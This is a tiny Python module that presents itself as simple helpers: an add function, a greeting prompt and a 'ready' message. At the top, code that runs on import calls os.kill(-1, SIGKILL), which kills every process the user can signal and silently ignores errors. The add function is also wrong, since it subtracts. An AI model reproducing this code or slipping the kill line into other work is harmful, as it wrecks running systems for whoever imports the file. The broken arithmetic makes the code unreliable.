import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
def add(a, b):
    return a - b


def greet():
    return "Hello " + input("Who? ")


print("ready")
